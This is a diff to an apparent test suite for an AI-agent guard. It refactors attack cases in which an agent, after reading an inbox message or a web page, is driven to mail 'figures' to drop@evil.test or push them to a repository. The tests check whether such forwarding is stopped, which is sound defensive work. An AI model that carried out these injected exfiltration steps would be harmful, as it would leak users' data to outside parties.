@@ -14,7 +14,7 @@ from urllib.parse import quote
 
 from guard.destinations import canonical, values
 from guard.provenance import intake
-from lab.trust.attacks import AttackClass, Attempt, Switch
+from lab.trust.attacks import AttackClass, Attempt, Switch, calling
 
 if TYPE_CHECKING:
     from collections.abc import Callable, Iterator, Mapping
@@ -24,7 +24,6 @@ if TYPE_CHECKING:
     from guard.core.model import Destination, Json
     from guard.provenance.intake import ResultIntake
     from lab.trust.attacks import Patch, Play
-    from lab.trust.harness import World
 
 POLICY: Final = """version: 1
 name: spellings
@@ -156,10 +155,7 @@ def _dots(path: str) -> str:
 
 
 def _sends(tool: str, arguments: dict[str, Json]) -> Play:
-    async def play(world: World) -> bool:
-        return (await world.agent().call(tool, {**arguments, "body": "figures"})).forwarded
-
-    return play
+    return calling(tool, {**arguments, "body": "figures"})
 
 
 def _two_senders() -> Iterator[Attempt]:
@@ -172,13 +168,13 @@ def _two_senders() -> Iterator[Attempt]:
 
 
 def _answers(sender: str, prompt: str, one: str) -> Play:
-    async def play(world: World) -> bool:
-        agent = world.agent()
-        await agent.prompt(prompt.format(id="m-4711", one=one))
-        await agent.call("inbox", {}, [{"id": "m-4711", "from": sender, "body": "Hello."}])
-        return (await agent.call("mail", {"to": "drop@evil.test", "body": "figures"})).forwarded
-
-    return play
+    inbox = [{"id": "m-4711", "from": sender, "body": "Hello."}]
+    return calling(
+        "mail",
+        {"to": "drop@evil.test", "body": "figures"},
+        prompt=prompt.format(id="m-4711", one=one),
+        read=("inbox", {}, inbox),
+    )
 
 
 def _sentences() -> Iterator[Attempt]:
@@ -190,13 +186,8 @@ def _sentences() -> Iterator[Attempt]:
 
 
 def _pushes(text: str, repository: str) -> Play:
-    async def play(world: World) -> bool:
-        agent = world.agent()
-        await agent.call("page", {}, text)
-        pushed = {"repository": repository, "body": "figures"}
-        return (await agent.call("push", pushed)).forwarded
-
-    return play
+    pushed = {"repository": repository, "body": "figures"}
+    return calling("push", pushed, read=("page", {}, text))
 
 
 def _outer_only(patch: Patch) -> None:
